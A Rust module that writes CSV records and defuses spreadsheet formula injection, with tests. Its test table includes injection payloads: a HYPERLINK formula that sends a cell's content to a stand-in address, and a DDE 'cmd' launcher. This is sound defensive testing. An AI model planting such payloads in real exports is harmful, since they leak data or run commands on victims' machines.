//! CSV (RFC 4180) that a spreadsheet shows as it is: what phones send is never taken for a formula. Pure.

use std::borrow::Cow;

/// Digits of an E.164 number, at most.
const E164: usize = 15;

/// Adds a line with these values.
pub fn write_record<'a>(values: impl Iterator<Item = &'a str>, out: &mut Vec<u8>) {
    for value in values {
        let value = neutral(value);
        if value.contains(['"', ',', '\r', '\n']) {
            out.push(b'"');
            out.extend_from_slice(value.replace('"', "\"\"").as_bytes());
            out.push(b'"');
        } else {
            out.extend_from_slice(value.as_bytes());
        }
        out.push(b',');
    }
    out.pop();
    out.extend_from_slice(b"\r\n");
}

/// The value with a `'` in front where a spreadsheet would calculate it. Numbers and telephone numbers stay as they are.
fn neutral(value: &str) -> Cow<'_, str> {
    let is_formula = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if is_formula && !is_number(value) {
        format!("'{value}").into()
    } else {
        value.into()
    }
}

/// Whether this is a plain number, as `-5` or `-0.5`, or an E.164 number, as `+15550100`.
fn is_number(value: &str) -> bool {
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    if let Some(number) = value.strip_prefix('+') {
        return digits(number) && number.len() <= E164;
    }
    let number = value.strip_prefix('-').unwrap_or(value);
    let (whole, fraction) = number.split_once('.').unwrap_or((number, "0"));
    digits(whole) && digits(fraction)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn line(values: &[&str]) -> String {
        let mut out = Vec::new();
        write_record(values.iter().copied(), &mut out);
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn quotes_what_needs_it() {
        let values = ["a", "", "b,c", "d\"e", "f\ng"];
        assert_eq!(line(&values), "a,,\"b,c\",\"d\"\"e\",\"f\ng\"\r\n");
    }

    #[test]
    fn formulas_are_texts() {
        for (value, expected) in [
            (
                "=HYPERLINK(\"http://192.0.2.9/?x=\"&A2,\"click\")",
                "\"'=HYPERLINK(\"\"http://192.0.2.9/?x=\"\"&A2,\"\"click\"\")\"",
            ),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("=", "'="),
            ("+", "'+"),
            ("-", "'-"),
            ("--5", "'--5"),
            ("+1 555", "'+1 555"),
            ("+1234567890123456", "'+1234567890123456"),
            ("-5.", "'-5."),
            ("-1e5", "'-1e5"),
            ("+15550100", "+15550100"),
            ("-5", "-5"),
            ("-0.5", "-0.5"),
            ("5+5", "5+5"),
            ("a=b", "a=b"),
            ("'=1", "'=1"),
            (" =1", " =1"),
        ] {
            assert_eq!(line(&[value]), format!("{expected}\r\n"), "{value}");
        }
    }

    proptest! {
        /// A reader of CSV gets each value back, but for the `'`.
        #[test]
        fn a_reader_gets_the_values(values in proptest::collection::vec("[-=+@\t\r\n\",a1.]{0,6}", 2..5)) {
            let mut out = Vec::new();
            write_record(values.iter().map(String::as_str), &mut out);
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&*out);
            let record = reader.records().next().unwrap().unwrap();
            for (value, read) in values.iter().zip(&record) {
                let calculated = read.starts_with(['=', '+', '-', '@', '\t', '\r']);
                prop_assert!(!calculated || is_number(read), "{read:?}");
                prop_assert!(read == value || read == format!("'{value}"), "{value:?} {read:?}");
            }
        }
    }
}
